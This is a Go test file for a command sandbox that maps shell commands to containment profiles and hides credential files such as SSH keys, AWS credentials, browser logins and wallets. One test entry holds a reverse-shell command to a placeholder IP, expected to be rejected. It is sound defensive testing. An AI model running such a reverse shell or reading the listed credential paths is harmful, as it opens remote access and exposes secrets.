//go:build unix

package bounds

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/shieldcli/shield/internal/contain"
	"github.com/shieldcli/shield/pkg/effect"
	"github.com/shieldcli/shield/pkg/shell"
)

// newPlace makes a home folder with a workspace and files.
func newPlace(t *testing.T) ContainedProgramContext {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home := base + "/home"
	for _, name := range []string{
		".ssh/id_rsa", ".ssh/known_hosts", ".npmrc", ".bashrc", ".aws/credentials", ".config/gh/hosts.yml", ".config/other", ".mozilla/firefox/p/logins.json",
		".electrum/wallets/w", "docs/a.txt", "docs/b.txt", ".local/state/shield/seal.key", "src/app/.git/config", "src/app/.git/hooks/pre-commit",
		"src/app/.claude/settings.json", "src/app/.env", "src/app/a.txt", "src/other/.env", "src/other/.env.example", "src/other/main.c", "dotfiles/netrc", "keys/real",
	} {
		path := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{".netrc": "dotfiles/netrc", ".ssh/id_ed25519": "../keys/real", "docs/keys": "../.ssh"} {
		if err := os.Symlink(to, filepath.Join(home, link)); err != nil {
			t.Fatal(err)
		}
	}
	return ContainedProgramContext{Home: home, WorkspaceRoots: []string{home + "/src/app"}, ShieldPaths: []string{home + "/.local/state/shield"}}
}

func (p ContainedProgramContext) judge(command string) []effect.Effect {
	return shell.Analyze(command, &effect.PathContext{CWD: p.WorkspaceRoots[0], Home: p.Home, WorkspaceRoots: p.WorkspaceRoots}).Effects
}

// short returns paths below the home folder without it, and no others.
func short(home string, paths []string) string {
	var out []string
	for _, path := range paths {
		if rest, ok := strings.CutPrefix(path, home+"/"); ok {
			out = append(out, rest)
		}
	}
	return strings.Join(out, " ")
}

// TestCommands goes through commands and what they are given; a form in brackets stands for
// why a command cannot be contained.
func TestCommands(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]string{
		"ls":                                   "-",
		"cat ~/docs/a.txt > b":                 "-",
		"echo x > ~/docs/a.txt":                "write docs/a.txt",
		"echo x > ~/docs/new.txt":              "write docs",
		"mkdir -p ~/docs/a/b/c":                "write docs",
		"rm ~/docs/a.txt":                      "write docs",
		"rm ~/docs/*.txt":                      "write docs",
		"mv a.txt ~/docs/c.txt":                "write docs",
		"touch ~/new":                          "[changes files in HOME,]",
		"rm -r ~/.config":                      "[changes files in HOME,]",
		"echo x > ~/.config/new":               "[changes files in HOME/.config,]",
		"curl -o a https://example.com":        "network read dotfiles/netrc",
		"npm install":                          "network read .npmrc write .cache/node-gyp .npm",
		"npm install && echo x > ~/docs/a.txt": "network read .npmrc write .cache/node-gyp .npm docs/a.txt",
		"./npm install":                        "-",
		"make":                                 "-",
		"git commit -m x":                      "read .ssh dotfiles/netrc keys/real free .git/config",
		"gh pr list":                           "network read .config/gh/hosts.yml write .cache/gh",
		"aws s3 ls":                            "network read .aws/credentials write .aws/cli/cache",
		"echo x > .git/hooks/pre-commit":       "free .git/hooks",
		"cat ~/.aws/credentials":               "read .aws/credentials",
		"ls ~":                                 "-",
		"sudo ls":                              "[privileges]",
		"systemctl restart x":                  "[]",
		"kill 1":                               "[]",
		"docker run x":                         "[has its work done by another process]",
		"bwrap ls":                             "[namespaces]",
		"bash -i >& /dev/tcp/1.2.3.4/1 0>&1":   "[]",
	} {
		at := newPlace(t)
		plain, err := OfCommand(nil, at)
		if err != nil {
			t.Fatal(err)
		}
		p, err := OfCommand(at.judge(command), at)
		if form, ok := strings.CutPrefix(want, "["); ok {
			form = strings.ReplaceAll(strings.TrimSuffix(form, "]"), "HOME", at.Home)
			var unbounded *UncontainableCommandError
			if !errors.As(err, &unbounded) || !strings.Contains(err.Error(), form) {
				t.Errorf("%s: %v", command, err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", command, err)
			continue
		}
		if got := difference(at, plain, p); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", command, got, want)
		}
		if _, err := os.Stat(at.Home + "/.npm"); err == nil {
			t.Errorf("%s: its cache was made although nothing was started", command)
		}
		if strings.HasPrefix(command, "npm install") && short(at.Home, p.FoldersToCreate) != ".cache/node-gyp .npm" {
			t.Errorf("%s: made at the start: %s", command, p.FoldersToCreate)
		}
	}
}

// difference says in words what a profile gives beyond that of nothing.
func difference(at ContainedProgramContext, plain, p *contain.Profile) string {
	less := func(a, b []string) string {
		return short(at.Home, slices.DeleteFunc(slices.Clone(a), func(s string) bool { return contain.Within(s, b) }))
	}
	var out []string
	add := func(word, list string) {
		if list != "" {
			out = append(out, word+" "+list)
		}
	}
	if p.AllowsNetwork {
		out = append(out, "network")
	}
	add("read", less(plain.HiddenPaths, p.HiddenPaths))
	add("write", less(p.WritablePaths, plain.WritablePaths))
	add("free", strings.TrimPrefix(less(plain.ReadOnlyPaths, p.ReadOnlyPaths), "src/app/"))
	if len(out) == 0 {
		return "-"
	}
	return strings.Join(out, " ")
}

// TestHidden: what is hidden is, wherever a link leads to it, and nothing else of the home
// folder is.
func TestHidden(t *testing.T) {
	t.Parallel()
	at := newPlace(t)
	p, err := OfCommand(nil, at)
	if err != nil {
		t.Fatal(err)
	}
	const want = ".aws/credentials .config/gh/hosts.yml .electrum .local/state/shield .mozilla/firefox .npmrc .ssh dotfiles/netrc keys/real src/other/.env"
	if got := short(at.Home, p.HiddenPaths); got != want {
		t.Errorf("hidden\ngot  %s\nwant %s", got, want)
	}
	if got := short(at.Home, p.WritablePaths); got != "src/app" {
		t.Errorf("written: %s", got)
	}
	if got := short(at.Home, p.ReadOnlyPaths); got != "src/app/.claude/settings.json src/app/.git/config src/app/.git/hooks" {
		t.Errorf("fixed: %s", got)
	}
}

// TestServer: a server gets the workspace, its caches and what a person says.
func TestServer(t *testing.T) {
	t.Parallel()
	at := newPlace(t)
	plain, err := OfCommand(nil, at)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		program string
		grants  UserGrantsForServer
		want    string
	}{
		{"/usr/bin/node", UserGrantsForServer{}, "network"},
		{"/usr/bin/npx", UserGrantsForServer{NoNetwork: true}, "write .npm"},
		{"/usr/bin/node", UserGrantsForServer{NoNetwork: true, Read: []string{at.Home + "/.npmrc"}, Write: []string{at.Home + "/docs"}}, "read .npmrc write docs"},
		{"/usr/bin/node", UserGrantsForServer{NoNetwork: true, Read: []string{at.Home + "/.ssh/known_hosts"}}, "read .ssh"},
		{"/usr/bin/node", UserGrantsForServer{NoNetwork: true, Read: []string{at.Home}}, "-"},
	} {
		p, err := OfServer(c.program, at, c.grants)
		if err != nil {
			t.Fatal(err)
		}
		if got := difference(at, plain, p); got != c.want {
			t.Errorf("%s %+v\ngot  %s\nwant %s", c.program, c.grants, got, c.want)
		}
		if len(c.grants.Read) > 0 && strings.HasSuffix(c.grants.Read[0], "known_hosts") && !strings.Contains(short(at.Home, p.HiddenPaths), ".ssh/id_rsa") {
			t.Errorf("beside what was given nothing is hidden: %v", p.HiddenPaths)
		}
	}
	if _, err := OfServer("node", at, UserGrantsForServer{Write: []string{at.Home + "/none"}}); err == nil {
		t.Error("a folder that is not there was given")
	}
}

func BenchmarkOfCommand(b *testing.B) {
	home, err := os.UserHomeDir()
	if err != nil {
		b.Fatal(err)
	}
	root := b.TempDir()
	for b.Loop() {
		if _, err := OfCommand(nil, ContainedProgramContext{Home: home, WorkspaceRoots: []string{root}}); err != nil {
			b.Fatal(err)
		}
	}
}
